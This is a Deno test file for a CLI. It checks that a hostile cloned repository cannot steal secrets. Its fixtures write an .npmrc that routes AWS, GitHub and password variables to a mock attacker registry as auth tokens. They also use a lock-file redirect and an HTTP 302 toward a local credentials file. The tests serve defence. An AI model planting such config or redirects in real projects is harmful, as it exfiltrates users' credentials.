/** A cloned repository whose .npmrc names a registry, which is sent secrets or leads elsewhere. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { dirname, toFileUrl } from "@std/path";
import { it } from "@std/testing/bdd";
import { insforge } from "../support/executable.ts";
import { TREASURE, withHostileClone } from "../support/hostile_clone.ts";

const VARIABLES = ["INSFORGE_PASSWORD", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"];

it("a registry that a clone names is sent tokens of registries, and no other variable", async () => {
  await withHostileClone(async ({ file, root, home, host, sent }) => {
    const address = host.url.replace("http:", "");
    const scopes = VARIABLES.map((name) =>
      `@${name.toLowerCase()}:registry=${host.url}/${name}/\n${address}/${name}/:_authToken=\${${name}}`
    );
    const usual = `@own:registry=${host.url}/own/\n${address}/own/:_authToken=\${NPM_TOKEN}`;
    await file(".npmrc", [...scopes, usual].join("\n"));
    const env = {
      HOME: home,
      PATH: `${dirname(Deno.execPath())}:${Deno.env.get("PATH")}`,
      NPM_TOKEN: "of-the-registry",
      ...Object.fromEntries(VARIABLES.map((name) => [name, TREASURE])),
    };
    for (const scope of [...VARIABLES.map((name) => name.toLowerCase()), "own"]) {
      const source = `import "npm:@${scope}/x"; export default () => new Response();`;
      await file(`insforge/functions/${scope}/index.ts`, source);
      await file(`insforge/functions/${scope}/index.test.ts`, `import "./index.ts";`);
      for (const args of [["deploy", scope], ["test", scope]]) {
        const { stderr } = await insforge(["functions", ...args], { cwd: root, env });
        assert(!sent().includes(TREASURE), `${args.join(" ")}\n${stderr}`);
      }
    }
    for (const name of [...VARIABLES, "own"]) assertStringIncludes(sent(), `/${name}/`);
    assertStringIncludes(sent(), "Bearer of-the-registry");
  });
});

it("a registry and a lock file of a clone lead to no file of the machine", async () => {
  let file: string | undefined;
  await withHostileClone(async (clone) => {
    const { host, home, sent } = clone;
    file = toFileUrl(`${home}/.insforge/credentials.json`).href;
    await clone.file(".npmrc", `registry=${host.url}/`);
    const redirects = { [`${host.url}/locked.json`]: file };
    const folder = "insforge/functions";
    await clone.file(`${folder}/deno.lock`, JSON.stringify({ version: "5", redirects }));
    for (const name of ["led", "locked"]) {
      const source = `import all from "${host.url}/${name}.json" with { type: "json" };
        export default () => Response.json(all);`;
      await clone.file(`${folder}/${name}/index.ts`, source);
      const { code, stderr } = await clone.run(["functions", "deploy", name, "--no-check"]);
      assert(!sent().includes(TREASURE), name);
      assertStringIncludes(stderr, "leads to what is no address of the web");
      assertEquals(code, 1);
    }
  }, (target) => {
    if (target === "/led.json") {
      return new Response(null, { status: 302, headers: { location: file! } });
    }
    return Response.json([]);
  });
});
